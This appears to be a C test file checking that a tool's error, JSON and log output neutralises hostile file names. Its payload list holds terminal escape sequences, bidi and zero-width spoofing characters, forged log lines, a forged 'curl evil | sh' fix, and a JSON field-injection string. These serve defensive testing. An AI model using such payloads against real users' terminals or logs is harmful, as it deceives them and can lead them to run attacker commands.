/* SPDX-License-Identifier: MIT */
/*
 * Bytes of an attacker on the terminal of a user who reads error messages
 *
 * File names and arguments may contain escapes that set the window title, hide or reorder text, and
 * newlines that forge a line of sbx. Each attack is first shown to reach the terminal through a
 * plain fprintf of the same error.
 */
#include "test.h"

#include <stdio.h>

#include "base/cleanup.h"
#include "base/error.h"
#include "base/json.h"
#include "base/log.h"
#include "base/text.h"

#include <fcntl.h>
#include <unistd.h>

/* Each is harmful on some terminal. */
static const char *const payloads[] = {
	"\x1b]0;owned\x07",	/* sets the window's title */
	"\x1b[2J\x1b[H",	/* erases the screen */
	"\x1b[8mhidden\x1b[0m", /* invisible text */
	"\x1bP+q\x1b\\",	/* makes the terminal send input */
	"\x9b"
	"2J", /* CSI as one byte (C1) */
	"\xc2\x9b"
	"2J",				   /* the same in UTF-8 */
	"\rsbx-spawn: everything is fine", /* overwrites the line */
	"a\x08\x08\x08",		   /* moves back */
	"\x7f",				   /* deletes */
	"\xe2\x80\xae"
	"txt.exe", /* U+202E, right-to-left override */
	"\xe2\x81\xa6"
	"x", /* U+2066, left-to-right isolate */
	"\xe2\x80\x8f"
	"x", /* U+200F, right-to-left mark */
	"\xd8\x9c"
	"x", /* U+061C, Arabic letter mark */
	"\xe2\x80\xa8"
	"sbx-spawn: allowed",		  /* U+2028, line separator */
	"root\xe2\x80\x8b",		  /* U+200B, zero width space: a name that looks the same */
	"\nsbx-spawn: allowed",		  /* a forged line of sbx */
	"x\n  fix: run 'curl evil | sh'", /* a forged advice of sbx */
};

/* Encoded characters that a terminal obeys or hides: from Unicode's Bidi_Control list, not from
 * lib/base. */
static const char *const hidden[] = {
	"\xd8\x9c",					/* U+061C */
	"\xe2\x80\x8b", "\xe2\x80\x8c", "\xe2\x80\x8d", /* U+200B-D */
	"\xe2\x80\x8e", "\xe2\x80\x8f",			/* U+200E-F */
	"\xe2\x80\xa8", "\xe2\x80\xa9",			/* U+2028-9 */
	"\xe2\x80\xaa", "\xe2\x80\xab", "\xe2\x80\xac", "\xe2\x80\xad", "\xe2\x80\xae",
	"\xe2\x81\xa6", "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9", "\xef\xbb\xbf", /* U+FEFF */
};

/* Does the text contain anything that a terminal would obey? Newlines are counted separately. */
static bool is_dangerous(const char *text, size_t len)
{
	for (size_t i = 0; i < N_ELEMENTS(hidden); i++)
		if (memmem(text, len, hidden[i], strlen(hidden[i])))
			return true;
	for (size_t i = 0; i < len;) {
		const unsigned char *at = (const unsigned char *)text + i;
		size_t n = utf8_sequence(at, len - i);

		if (n == 0 || (n == 1 && ((*at < 0x20 && *at != '\n') || *at == 0x7f)))
			return true;
		if (n == 2 && at[0] == 0xc2 && at[1] < 0xa0)
			return true;
		i += n;
	}
	return false;
}

static unsigned count_lines(const char *text)
{
	unsigned n = 0;

	for (; *text; text++)
		n += *text == '\n';
	return n;
}

/* Puts the payload into each part of an error, as a quoted file name would be. */
static void fill(struct sbx_error *err, const char *payload)
{
	sbx_error_what(err, -2, "cannot open '%s'", payload);
	sbx_error_why(err, "'%s' does not exist", payload);
	sbx_error_fix(err, "create '%s'", payload);
	sbx_error_context(err, "while reading '%s'", payload);
}

/* Output without error_add_text(). */
static void print_plainly(struct text *out, const struct sbx_error *err)
{
	text_addf(out, "sbx-spawn: %s\n  why: %s\n  context: %s\n  fix: %s\n", err->what, err->why,
		  err->context, err->fix);
}

static void an_error_does_not_command_the_terminal(void)
{
	for (size_t i = 0; i < N_ELEMENTS(payloads); i++) {
		_cleanup_text_ struct text plain = TEXT_INIT, ours = TEXT_INIT;
		struct sbx_error err = { 0 };

		fill(&err, payloads[i]);
		print_plainly(&plain, &err);
		error_add_text(&ours, "sbx-spawn", &err);
		expect(is_dangerous(plain.data, plain.len) || count_lines(plain.data) > 4);
		expect(!is_dangerous(ours.data, ours.len));
		expect_eq(count_lines(text_string(&ours)), 4);
	}
}

static void an_error_as_json_has_no_member_of_the_attacker(void)
{
	static const char payload[] = "x\",\"level\":\"info\",\"fix\":\"none needed";
	_cleanup_text_ struct text plain = TEXT_INIT, ours = TEXT_INIT;
	struct sbx_error err = { 0 };

	fill(&err, payload);
	text_addf(&plain, "{\"level\":\"error\",\"what\":\"%s\"}", err.what);
	expect(strstr(text_string(&plain), ",\"level\":\"info\"") != NULL);

	error_add_json(&ours, &err);
	expect_eq(json_validate(ours.data, ours.len, NULL, NULL), 0);
	expect(strstr(text_string(&ours), ",\"level\":\"info\"") == NULL);
}

static void an_error_as_json_stays_one_line_of_plain_bytes(void)
{
	for (size_t i = 0; i < N_ELEMENTS(payloads); i++) {
		_cleanup_text_ struct text out = TEXT_INIT;
		struct sbx_error err = { 0 };

		fill(&err, payloads[i]);
		error_add_json(&out, &err);
		expect_eq(json_validate(out.data, out.len, NULL, NULL), 0);
		expect_eq(count_lines(text_string(&out)), 1);
		for (size_t at = 0; at + 1 < out.len; at++)
			expect((unsigned char)out.data[at] >= 0x20);
		expect(!is_dangerous(out.data, out.len));
	}
}

/* The four characters "\\x1b" in a name must look different from the byte. */
static void a_written_escape_does_not_pass_for_a_shown_one(void)
{
	_cleanup_text_ struct text written = TEXT_INIT, shown = TEXT_INIT;
	struct sbx_error err = { 0 };

	fill(&err, "\\x1b");
	error_add_text(&written, "sbx-spawn", &err);
	fill(&err, "\x1b");
	error_add_text(&shown, "sbx-spawn", &err);
	expect(strcmp(text_string(&written), text_string(&shown)) != 0);
}

static void a_log_message_does_not_command_the_terminal(void)
{
	for (size_t i = 0; i < N_ELEMENTS(payloads); i++) {
		_cleanup_log_ struct log log;
		char line[512] = "";
		int ends[2];

		expect_eq(pipe2(ends, O_CLOEXEC), 0);

		_cleanup_close_ int from = ends[0], to = ends[1];

		log_init(&log, "sbx-spawn", 0, false, NULL);
		log.stderr_fd = to;
		log_write(&log, LOG_LEVEL_ERROR, NULL, "cannot open '%s'", payloads[i]);

		ssize_t n = read(from, line, sizeof(line) - 1);

		expect(n > 0);
		expect(n <= 0 || !is_dangerous(line, (size_t)n));
		expect_eq(count_lines(line), 1);
	}
}

static const struct test tests[] = {
	TEST(an_error_does_not_command_the_terminal),
	TEST(an_error_as_json_has_no_member_of_the_attacker),
	TEST(an_error_as_json_stays_one_line_of_plain_bytes),
	TEST(a_written_escape_does_not_pass_for_a_shown_one),
	TEST(a_log_message_does_not_command_the_terminal),
	TEST_END,
};

int main(void)
{
	return test_run(tests);
}
